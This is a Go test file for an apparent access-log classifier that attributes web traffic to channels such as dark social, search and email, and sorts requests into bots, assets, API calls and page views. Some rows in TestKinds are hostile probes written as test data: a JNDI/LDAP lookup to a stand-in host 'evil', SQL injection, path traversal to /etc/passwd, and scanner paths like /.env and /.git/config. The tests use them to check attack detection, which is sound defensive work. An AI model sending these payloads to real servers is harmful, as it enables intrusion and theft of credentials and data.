package attribution

import (
	"strings"
	"testing"

	"github.com/darkshare/darkshare/exporter/accesslog"
	"github.com/darkshare/darkshare/exporter/schema"
)

const (
	uaChrome   = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
	uaWechat   = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x1800312b) NetType/WIFI Language/zh_CN"
	uaFacebook = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/468.0.0.36.101;FBBV/605;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]"
	uaOutlook  = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET CLR 2.0.50727; Microsoft Outlook 16.0.5266; ms-office; MSOffice 16)"
	uaWhatsapp = "WhatsApp/2.23.20.0 A"
	uaCurl     = "curl/8.5.0"
)

// ask makes a request of fields written as "name=value" and separated by blanks;
// what is not said is that of a plain page view. "-" stands for nothing.
func ask(t testing.TB, fields string) *accesslog.Request {
	t.Helper()
	req := &accesslog.Request{
		Status: 200, Method: []byte("GET"), Target: []byte("/blog/post"), Host: []byte("www.example.com"), UserAgent: []byte(uaChrome),
	}
	agents := map[string]string{"chrome": uaChrome, "wechat": uaWechat, "facebook": uaFacebook, "outlook": uaOutlook, "whatsapp": uaWhatsapp, "curl": uaCurl}
	for _, f := range strings.Fields(fields) {
		name, value, ok := strings.Cut(f, "=")
		if !ok {
			t.Fatalf("%q is no field", f)
		}
		b := []byte(value)
		if value == "-" {
			b = nil
		}
		switch name {
		case "status":
			req.Status = 0
			for _, c := range b {
				req.Status = req.Status*10 + int(c-'0')
			}
		case "method":
			req.Method = b
		case "target":
			req.Target = b
		case "host":
			req.Host = b
		case "ref":
			req.Referer = b
		case "ua":
			req.UserAgent = []byte(agents[value])
		case "type":
			req.ContentType = b
		case "site":
			req.SecFetchSite = b
		case "mode":
			req.SecFetchMode = b
		case "dest":
			req.SecFetchDest = b
		case "purpose":
			req.Purpose = b
		case "with":
			req.RequestedWith = b
		default:
			t.Fatalf("no field %q", name)
		}
	}
	return req
}

func newRules(t testing.TB, o Options) *Rules {
	t.Helper()
	r, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

var testSites = Options{
	Sites: []Site{
		{Name: "example", Hosts: []string{"example.com", "example-cdn.net"}, SiteRules: SiteRules{
			EntryPages: []string{"/start", "/sections/*"},
			Excluded:   []string{"/internal/**"},
			Goals:      []Goal{{"bought", "/order/*/thanks"}, {"signed_up", "/welcome/index.html"}},
		}},
		{Name: "shop", Hosts: []string{"shop.example.com"}},
	},
	Hosts: []HostRule{
		{Host: "intranet.example.org", Channel: "dark_social", Source: "intranet"},
		{Host: "android-app://org.example.app", Channel: "referral", Source: "our_app"},
		{Host: "google.es", Channel: "referral", Source: "other"},
	},
	Tags:           []TagRule{{Parameter: "campaign", Value: "flyer*", Channel: "referral", Source: "flyer"}},
	ShareParameter: "ds",
}

// TestKinds has a row for each way to be something: the request, the kind, the
// signals (o own referrer, b bare asset, m metadata, a attack, n not found) and
// a part of the reason.
func TestKinds(t *testing.T) {
	c := newRules(t, testSites).NewClassifier()
	for _, row := range []struct{ request, kind, signals, why string }{
		// Agents come before anything else.
		{"ua=whatsapp", "preview", "", "link-preview fetcher"},
		{"ua=whatsapp target=/.env status=404", "preview", "a", "whatsapp"},
		{"ua=curl", "bot", "", "a programming library"},
		{"ua=-", "bot", "", "no user agent"},
		{"ua=curl status=404", "bot", "", "curl"},

		// Errors.
		{"status=404", "error", "n", "status is 404"},
		{"status=403", "error", "n", "status is 403"},
		{"status=500", "error", "", "status is 500"},
		{"status=-", "error", "", "does not say"},
		{"method=-", "error", "", "no HTTP request"},
		{"target=-", "error", "", "no HTTP request"},
		{`target=\x16\x03\x01`, "error", "", "no HTTP request"},
		{"status=404 target=/wp-login.php", "error", "an", "only scanners"},
		{"status=404 target=/blog/xmlrpc.php", "error", "an", "only scanners"},
		{"status=404 target=/phpMyAdmin/index.php", "error", "an", "only scanners"},
		{"status=403 target=/.git/config", "error", "an", "only scanners"},
		{"status=400 target=/cgi-bin/../../../../etc/passwd", "error", "an", "only scanners"},
		{"status=404 target=/old-post-that-was-deleted", "error", "n", "status is 404"},
		{"status=404 target=/about.php", "error", "n", "status is 404"},
		{"status=404 target=/wp-content/themes/mine/missing.css", "error", "n", "status is 404"},

		// Attacks on what answers.
		{"target=/wp-login.php", "landing", "", "no tag"},
		{"target=/.env", "landing", "a", ""},
		{"target=/?x=${jndi:ldap://evil/a}", "landing", "a", ""},
		{"target=/list?id=1+union+select+1,2", "landing", "a", ""},
		{"target=/list?q=union+square", "landing", "", ""},
		{"target=/environment", "landing", "", ""},
		{"target=/a..b/c", "landing", "", ""},

		// Prefetches and redirects.
		{"purpose=prefetch", "prefetch", "", "fetches ahead"},
		{"purpose=prefetch;prerender", "prefetch", "", "fetches ahead"},
		{"purpose=Preview", "prefetch", "", "fetches ahead"},
		{"purpose=print", "landing", "", ""},
		{"status=301", "redirect", "", "sent on"},
		{"status=304", "landing", "", ""},

		// Assets.
		{"target=/a/style.css ref=https://www.example.com/", "asset", "o", "the site itself"},
		{"target=/a/style.css ref=https://EXAMPLE.com:443/x", "asset", "o", ""},
		{"target=/a/style.css ref=https://example-cdn.net/", "asset", "o", ""},
		{"target=/a/style.css ref=https://other.org/", "asset", "", "an asset"},
		{"target=/a/style.css", "asset", "b", "an asset"},
		{"target=/a/style.css?v=2", "asset", "b", ""},
		{"target=/a/STYLE.CSS", "asset", "b", ""},
		{"target=/a/style.css ref=about:blank", "asset", "b", ""},
		{"target=/photo.jpg mode=navigate site=none dest=document", "asset", "m", ""},
		{"target=/photo.jpg site=cross-site dest=image", "asset", "m", ""},
		{"target=/photo.jpg site=same-origin dest=image", "asset", "bm", ""},
		{"target=/favicon.ico", "asset", "", ""},
		{"target=/favicon-32x32.png", "asset", "", ""},
		{"target=/apple-touch-icon-precomposed.png", "asset", "", ""},
		{"target=/site.webmanifest", "asset", "", ""},
		{"target=/manifest.json", "asset", "", ""},
		{"target=/paper.pdf", "asset", "", ""},
		{"target=/episode.mp3", "asset", "", ""},
		{"target=/resize?w=200 type=image/webp", "asset", "b", ""},
		{"target=/module dest=script ref=https://www.example.com/", "asset", "om", ""},
		{"target=/wiki/File:Photo.jpg type=text/html;charset=utf-8", "landing", "", ""},

		// Programs' requests.
		{"target=/api/v1/items ref=https://www.example.com/", "api", "o", "script's request"},
		{"target=/api/v1/items", "api", "", ""},
		{"target=/apiary", "landing", "", ""},
		{"target=/graphql method=POST", "api", "", ""},
		{"target=/blog/wp-json/wp/v2/posts", "api", "", ""},
		{"target=/wp-admin/admin-ajax.php method=POST", "api", "", ""},
		{"target=/items type=application/json", "api", "", ""},
		{"target=/items dest=empty mode=cors site=same-origin", "api", "m", ""},
		{"target=/chat dest=websocket status=101", "api", "m", ""},
		{"target=/items with=XMLHttpRequest", "api", "", ""},
		{"target=/collect method=POST ref=https://www.example.com/blog", "api", "o", "POST from one of the site's own pages"},

		// The rest.
		{"target=/internal/a/b", "other", "", "excluded"},
		{"target=/collect method=POST", "other", "", "method is POST"},
		{"method=HEAD", "other", "", "method is HEAD"},
		{"method=OPTIONS target=*", "other", "", "method is OPTIONS"},
		{"target=/blog/feed/", "other", "", "feed"},
		{"target=/rss", "other", "", "feed"},
		{"target=/atom.xml", "other", "", "feed"},
		{"target=/?feed=rss2", "other", "", "feed"},
		{"target=/blog?flav=rss20", "other", "", "feed"},
		{"target=/news type=application/rss+xml", "other", "", "feed"},
		{"target=/robots.txt", "other", "", "for programs"},
		{"target=/sitemap_index.xml", "other", "", "for programs"},
		{"target=/.well-known/apple-app-site-association", "other", "", "well-known"},
		{"target=/notes.txt", "other", "", "no page"},
		{"target=/notes type=text/plain", "other", "", "text/plain"},
		{"dest=iframe site=cross-site", "other", "", "frame"},
		{"status=204", "other", "", "204"},

		// Page views.
		{"", "landing", "", "no tag, app or referrer"},
		{"status=206", "landing", "", ""},
		{"ref=https://www.example.com/", "internal", "o", "the site itself"},
		{"ref=http://blog.example.com./x", "internal", "o", ""},
		{"ref=https://example-cdn.net/x", "internal", "o", ""},
		{"ref=https://shop.example.com/x", "landing", "", "another site"},
		{"ref=https://shop.example.com/x site=same-site", "landing", "m", "another site"},
		{"host=shop.example.com:8443 ref=https://shop.example.com/x", "internal", "o", ""},
		{"host=other.net ref=https://www.other.net/x", "internal", "o", ""},
		{"host=a.github.io ref=https://b.github.io/", "landing", "", ""},
		{"host=10.0.0.1 ref=http://10.0.0.1/", "internal", "o", ""},
		{"host=10.0.0.1 ref=http://11.0.0.1/", "landing", "", ""},
		{"host=localhost:8080 ref=http://localhost:3000/", "internal", "o", ""},
		{"host=[::1]:80 ref=http://[::1]/", "internal", "o", ""},
		{"target=http://www.example.com/x host=- ref=https://example.com/", "internal", "o", ""},
		{"site=same-origin", "internal", "m", "Sec-Fetch-Site: same-origin"},
		{"site=same-site", "internal", "m", ""},
		{"site=none", "landing", "m", ""},
		{"ref=https://notexample.com/", "landing", "", "another site"},
	} {
		var v Verdict
		req := ask(t, row.request)
		c.Classify(req, -1, &v)
		if v.Kind.String() != row.kind || signals(v.Signals) != row.signals {
			t.Errorf("%s: %v %q, want %s %q", row.request, v.Kind, signals(v.Signals), row.kind, row.signals)
		}
		if why := c.rules.Why(&v, req); !strings.Contains(why, row.why) {
			t.Errorf("%s: because %q, want %q", row.request, why, row.why)
		}
	}
}

func signals(s Signal) string {
	var b []byte
	for i, c := range []byte("obman") {
		if s&(1<<i) != 0 {
			b = append(b, c)
		}
	}
	return string(b)
}

// TestSenders has a row for each way to name a landing's sender.
func TestSenders(t *testing.T) {
	c := newRules(t, testSites).NewClassifier()
	for _, row := range []struct{ request, want, why string }{
		// Nothing says who it was.
		{"", "none", "no tag, app or referrer"},
		{"site=none", "none", ""},
		{"ref=-", "none", ""},
		{"ref=null", "none", ""},
		{"ref=about:blank", "none", ""},
		{"ref=www.google.com", "none", ""},
		{"ref=file:///home/me/x.html", "none", ""},
		{"ref=https://", "none", ""},
		{"ref=https://<script>/", "none", ""},
		{"ref=android-app://com.android.chrome/", "none", ""},
		{"with=com.android.chrome", "none", ""},
		{"with=XMLHttpRequestX", "none", ""},

		// Tags first, even in an app and with a referrer.
		{"target=/p?from=singlemessage", "dark_social wechat tag", "from=singlemessage"},
		{"target=/p?from=groupmessage&isappinstalled=0", "dark_social wechat tag", "from=groupmessage"},
		{"target=/p?from=timeline ua=wechat", "social wechat tag", "from=timeline"},
		{"target=/p?from=paris", "none", ""},
		{"target=/p?utm_source=newsletter&utm_medium=email", "email newsletter tag", "the campaign source newsletter with the medium email"},
		{"target=/p?utm_source=whatsapp ref=https://www.google.com/", "dark_social whatsapp tag", "the campaign source whatsapp"},
		{"target=/p?utm_source=google&utm_medium=cpc&gclid=x ref=https://www.google.com/", "paid google tag", "click id"},
		{"target=/p?gclid=Cj0x&utm_source=whatsapp", "paid google tag", "gclid=Cj0x"},
		{"target=/p?mc_cid=ab12 ref=https://mail.google.com/", "email mailchimp tag", "e-mail service"},
		{"target=/p?campaign=flyer-2024&gclid=1", "referral flyer tag", "a tag of your own"},
		{"target=/p?campaign=poster", "none", ""},
		{"target=/p?ds=whatsapp", "dark_social whatsapp tag", "ds=whatsapp"},
		{"target=/p?ds=facebook", "social facebook tag", ""},
		{"target=/p?ds=1", "dark_social other tag", ""},
		{"target=/p?ds=", "none", ""},
		{"target=/p?share_source=copy_link", "dark_social copy tag", ""},
		{"target=/p?share_source=toolbar", "none", ""},
		{"target=/p?a=1&amp;utm_source=telegram", "dark_social telegram tag", ""},
		{"target=/p?utm_source=What%73App", "dark_social whatsapp tag", ""},
		{"target=/p?utm_source=", "none", ""},

		// Then apps.
		{"ua=wechat", "dark_social wechat app", "inside an app"},
		{"ua=facebook ref=http://m.facebook.com/", "social facebook app", ""},
		{"ua=outlook", "dark_social outlook app", "mail client"},
		{"ref=android-app://com.whatsapp/", "dark_social whatsapp app", "com.whatsapp"},
		{"ref=android-app://org.telegram.messenger.web", "dark_social telegram app", ""},
		{"ref=android-app://com.google.android.gm/", "dark_social gmail app", ""},
		{"ref=android-app://com.google.android.googlequicksearchbox/https/www.google.com", "search google_search app", ""},
		{"ref=android-app://com.linkedin.android/", "social linkedin app", ""},
		{"ref=android-app://com.nobody.knows/", "referral other app", "do not have"},
		{"ref=android-app://org.example.app/", "referral our_app app", ""},
		{"with=com.facebook.orca", "dark_social messenger app", "X-Requested-With"},
		{"with=com.whatsapp ref=https://www.google.com/", "dark_social whatsapp app", ""},
		{"with=com.nobody.knows", "none", ""},

		// Then referrers.
		{"ref=https://web.whatsapp.com/", "dark_social whatsapp referrer", "web.whatsapp.com is whatsapp's"},
		{"ref=https://web.telegram.org/", "dark_social telegram referrer", ""},
		{"ref=https://l.messenger.com/", "dark_social messenger referrer", ""},
		{"ref=https://l.facebook.com/", "social facebook referrer", ""},
		{"ref=http://lm.facebook.com/l.php?u=x", "social facebook referrer", ""},
		{"ref=https://l.instagram.com/", "social instagram referrer", ""},
		{"ref=https://discord.com/", "dark_social discord referrer", ""},
		{"ref=https://app.slack.com/", "dark_social slack referrer", ""},
		{"ref=https://teams.microsoft.com/", "dark_social teams referrer", ""},
		{"ref=https://statics.teams.cdn.office.net/", "dark_social teams referrer", ""},
		{"ref=https://mail.google.com/", "dark_social gmail referrer", "webmail, without a newsletter's tag"},
		{"ref=https://outlook.live.com/", "dark_social outlook referrer", ""},
		{"ref=https://mail.proton.me/", "dark_social proton referrer", ""},
		{"ref=https://mail01.orange.fr/", "dark_social orange referrer", ""},
		{"ref=https://webmail.free.fr/", "dark_social free referrer", ""},
		{"ref=https://www.laposte.net/", "dark_social laposte referrer", ""},
		{"ref=https://webmail.sfr.fr/", "dark_social sfr referrer", ""},
		{"ref=https://bap.navigator.gmx.net/", "dark_social gmx referrer", ""},
		{"ref=https://deref-web.de/", "dark_social web_de referrer", ""},
		{"ref=https://email.t-online.de/", "dark_social t_online referrer", ""},
		{"ref=https://e.mail.ru/", "dark_social mail_ru referrer", ""},
		{"ref=https://mail.qq.com/", "dark_social qq_mail referrer", ""},
		{"ref=https://webmail.some-firm.de/", "dark_social webmail referrer", ""},
		{"ref=https://mail3.some-firm.co.uk/", "dark_social webmail referrer", ""},
		{"ref=https://mail.com/", "dark_social webmail referrer", ""},
		{"ref=https://mail.kataweb.it/", "dark_social webmail referrer", ""},
		{"ref=https://mailer.some-firm.de/", "referral other referrer", ""},
		{"ref=https://www.google.com/", "search google referrer", ""},
		{"ref=https://www.google.co.uk/", "search google referrer", ""},
		{"ref=https://WWW.GOOGLE.COM.:443/search?q=x", "search google referrer", ""},
		{"ref=https://google.blogspot.com/", "social blogger referrer", ""},
		{"ref=https://google.github.io/", "referral other referrer", ""},
		{"ref=https://google.evil.com/", "referral other referrer", ""},
		{"ref=https://www.google.es/", "referral other referrer", ""},
		{"ref=https://fr.search.yahoo.com/", "search yahoo referrer", ""},
		{"ref=https://www.bing.com/", "search bing referrer", ""},
		{"ref=https://chatgpt.com/", "ai chatgpt referrer", "an AI assistant"},
		{"ref=https://gemini.google.com/", "ai gemini referrer", ""},
		{"ref=https://t.co/x", "social twitter referrer", ""},
		{"ref=https://lnkd.in/", "social linkedin referrer", ""},
		{"ref=https://bit.ly/3x", "referral short_link referrer", ""},
		{"ref=https://mp.weixin.qq.com/", "social wechat referrer", ""},
		{"ref=https://us1.campaign-archive.com/", "email mailchimp referrer", ""},
		{"ref=https://intranet.example.org/", "dark_social intranet referrer", ""},
		{"ref=https://user:pass@www.reddit.com/", "social reddit referrer", ""},
		{"ref=https://some-blog.org/", "referral other referrer", "another site"},
		{"ref=https://192.0.2.7/", "referral other referrer", ""},

		// Then tags that say little, then the browser's word.
		{"target=/p?fbclid=IwAR0", "social facebook tag", "there is no referrer"},
		{"target=/p?fbclid=IwAR0 ref=https://www.messenger.com/", "dark_social messenger referrer", ""},
		{"target=/p?fbclid=IwAR0 with=com.facebook.orca", "dark_social messenger app", ""},
		{"target=/p?fbclid=IwAR0&utm_source=newsletter", "email newsletter tag", ""},
		{"target=/p?isappinstalled=0", "dark_social wechat tag", ""},
		{"site=cross-site", "dark_social other link", "a page that hides itself"},
		{"site=cross-site target=/p?fbclid=IwAR0", "social facebook tag", ""},
		{"site=cross-site ref=https://www.google.com/", "search google referrer", ""},
	} {
		var v Verdict
		req := ask(t, row.request)
		c.Classify(req, -1, &v)
		got := "none"
		if v.Evidence != schema.EvidenceNone {
			got = v.Channel.String() + " " + c.rules.SourceName(v.Source) + " " + v.Evidence.String()
		}
		if v.Kind != schema.KindLanding || got != row.want {
			t.Errorf("%s: %v, %s, want landing, %s", row.request, v.Kind, got, row.want)
		}
		if why := c.rules.Why(&v, req); !strings.Contains(why, row.why) {
			t.Errorf("%s: because %q, want %q", row.request, why, row.why)
		}
	}
}

// TestVerdict looks at what else a verdict says.
func TestVerdict(t *testing.T) {
	c := newRules(t, testSites).NewClassifier()
	for _, row := range []struct {
		request     string
		fixed, site int
		host, page  string
		from        string
		entry       bool
		goals       uint32
	}{
		{"target=/", -1, 0, "www.example.com", "/", "", true, 0},
		{"target=/index.php?x=1", -1, 0, "www.example.com", "/", "", true, 0},
		{"target=/fr/", -1, 0, "www.example.com", "/fr/", "", true, 0},
		{"target=/en-us", -1, 0, "www.example.com", "/en-us", "", true, 0},
		{"target=/zh-Hans/", -1, 0, "www.example.com", "/zh-Hans/", "", true, 0},
		{"target=/xx/", -1, 0, "www.example.com", "/xx/", "", false, 0},
		{"target=/start", -1, 0, "www.example.com", "/start", "", true, 0},
		{"target=/sections/sport", -1, 0, "www.example.com", "/sections/sport", "", true, 0},
		{"target=/sections/sport/x", -1, 0, "www.example.com", "/sections/sport/x", "", false, 0},
		{"target=/order/77/thanks", -1, 0, "www.example.com", "/order/77/thanks", "", false, 1},
		{"target=/welcome/", -1, 0, "www.example.com", "/welcome/", "", false, 2},
		{"target=/order/77/thanks method=POST status=303", -1, 0, "www.example.com", "/order/77/thanks", "", false, 1},
		{"target=/p ref=https://example.com/a//b?x=1#y", -1, 0, "www.example.com", "/p", "/a/b", false, 0},
		{"target=/p ref=https://example.com", -1, 0, "www.example.com", "/p", "/", false, 0},
		{"host=SHOP.Example.com:80", -1, 1, "shop.example.com", "/blog/post", "", false, 0},
		{"host=www.shop.example.com", -1, 1, "www.shop.example.com", "/blog/post", "", false, 0},
		{"host=other.org", -1, -1, "other.org", "/blog/post", "", false, 0},
		{"host=other.org", 1, 1, "other.org", "/blog/post", "", false, 0},
		{"host=-", 0, 0, "", "/blog/post", "", false, 0},
		{"host=- ref=https://www.example.com/x", 0, 0, "", "/blog/post", "/x", false, 0},
		{"host=bad/host", -1, -1, "", "/blog/post", "", false, 0},
		{"target=https://shop.example.com/x?y", -1, 1, "shop.example.com", "/x", "", false, 0},
		{"target=/style.css", -1, 0, "www.example.com", "", "", false, 0},
		{"ua=whatsapp target=/blog/post", -1, 0, "www.example.com", "/blog/post", "", false, 0},
		{"ua=whatsapp target=/card.jpg", -1, 0, "www.example.com", "", "", false, 0},
	} {
		var v Verdict
		c.Classify(ask(t, row.request), row.fixed, &v)
		if v.Site != row.site || string(v.Host) != row.host || string(v.Page) != row.page || v.RefererHash != hashOf(row.from) ||
			v.EntryPage != row.entry || v.Goals != row.goals {
			t.Errorf("%s: site %d, host %q, page %q from %x, entry %v, goals %b; want %d, %q, %q from %q, %v, %b", row.request,
				v.Site, v.Host, v.Page, v.RefererHash, v.EntryPage, v.Goals,
				row.site, row.host, row.page, row.from, row.entry, row.goals)
		}
	}
	var v Verdict
	c.Classify(ask(t, "ua=whatsapp"), -1, &v)
	if got := c.rules.SourceName(v.App) + " " + v.Scope.String(); got != "whatsapp private" {
		t.Errorf("preview by %s", got)
	}
}

func TestNewSaysWhatIsWrong(t *testing.T) {
	for _, row := range []struct {
		options Options
		want    string
	}{
		{Options{Sites: []Site{{Hosts: []string{"a.com"}}}}, "site 1 has no name"},
		{Options{Sites: []Site{{Name: "a", Hosts: []string{"https://a.com/"}}}}, `host "https://a.com/"`},
		{Options{Sites: []Site{{Name: "a", Hosts: []string{"a.com"}}, {Name: "b", Hosts: []string{"A.com."}}}}, "site b: host a.com is site a's already"},
		{Options{Default: SiteRules{Excluded: []string{"x"}}}, `path "x"`},
		{Options{Default: SiteRules{Goals: make([]Goal, 33)}}, "33 goals"},
		{Options{Hosts: []HostRule{{"x.com", "darksocial", "x"}}}, `host rule "x.com": channel "darksocial": expected`},
		{Options{Hosts: []HostRule{{"x.com", "direct", "x"}}}, `channel "direct"`},
		{Options{Hosts: []HostRule{{"https://x.com", "social", "x"}}}, `"https://x.com" is not a host name`},
		{Options{Hosts: []HostRule{{"x.com", "social", "My App"}}}, `source "My App"`},
		{Options{Tags: []TagRule{{"", "x", "social", "x"}}}, "names no parameter"},
		{Options{Tags: []TagRule{{"a", "x", "webmail", "x"}}}, `tag rule a=x: channel "webmail"`},
		{Options{MaskDigits: 1}, "mask digits 1"},
	} {
		if _, err := New(row.options); err == nil || !strings.Contains(err.Error(), row.want) {
			t.Errorf("%+v: error %v, want %q", row.options, err, row.want)
		}
	}
}

// hashOf returns the hash of a page, 0 where there is none.
func hashOf(page string) uint64 {
	if page == "" {
		return 0
	}
	return HashPage([]byte(page))
}
